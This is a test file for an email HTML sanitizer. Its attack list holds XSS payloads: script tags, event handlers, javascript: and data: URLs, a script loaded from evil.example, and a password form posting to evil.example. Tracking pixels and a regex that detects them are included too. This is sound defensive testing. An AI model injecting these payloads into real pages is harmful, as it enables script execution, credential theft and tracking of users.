import { describe, expect, test } from 'vitest';
import { safeHtml, textAsHtml } from './html.ts';

/** Ways in which HTML of strangers has run scripts, loaded things or taken over pages. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p class="mantine-Modal-root" id="root">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<img src="https://tracker.example/pixel.gif" srcset="https://tracker.example/2.gif 2x">',
  '<img src="//tracker.example/pixel.gif">',
  '<input autofocus onfocus=alert(1)>',
  '"><script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<a href="https://ok.example" onclick="alert(1)" target="_self">x</a>',
];
const runs =
  /<script|<style|<iframe|<object|<embed|<form|<input|<base|<meta|<link|<svg|<math|<template|<video|javascript:|vbscript:|data:text|\son\w+\s*=|\sstyle=|\sid=|srcset|tracker\.example|evil\.example/i;

describe('HTML of strangers', () => {
  test.each(attacks)('can do nothing: %s', (attack) => {
    const { html } = safeHtml(attack, false);
    expect(html.replaceAll(/&(?:lt|gt|quot|amp);/g, '')).not.toMatch(runs);
    expect(safeHtml(html, false).html).toBe(html);
  });

  test('keeps what makes a mail readable', () => {
    const mail =
      '<p>Dear <b>team</b>,<br />see <a href="https://example.com/a?b=1&amp;c=2">this</a></p><ul><li>one</li></ul><table><tbody><tr><td>1</td></tr></tbody></table>';
    expect(safeHtml(mail, false).html).toBe(
      mail.replace(
        '<a href="https://example.com/a?b=1&amp;c=2">',
        '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">',
      ),
    );
  });

  test('shows pictures of other servers only when they are asked for, and says how many there are', () => {
    const mail =
      '<p><img src="https://pictures.example/a.png" alt="Logo" width="20"><img src="cid:1"><img src="data:image/png;base64,AAAA"></p>';
    const without = safeHtml(mail, false);
    expect(without).toMatchObject({ remoteImages: 1 });
    expect(without.html).toBe(
      '<p><span class="blocked-image">Logo</span><span class="blocked-image">Picture</span><img src="data:image/png;base64,AAAA" alt="" referrerpolicy="no-referrer" loading="lazy" /></p>',
    );
    expect(safeHtml(mail, true).html).toContain(
      '<img src="https://pictures.example/a.png" alt="Logo" width="20" referrerpolicy="no-referrer" loading="lazy" />',
    );
  });

  test('of plain text has its paragraphs and nothing that would run', () => {
    expect(textAsHtml('One\nline\n\n<b>Two</b> & "three"')).toBe(
      '<p>One<br />line</p><p>&lt;b&gt;Two&lt;/b&gt; &amp; &quot;three&quot;</p>',
    );
  });
});
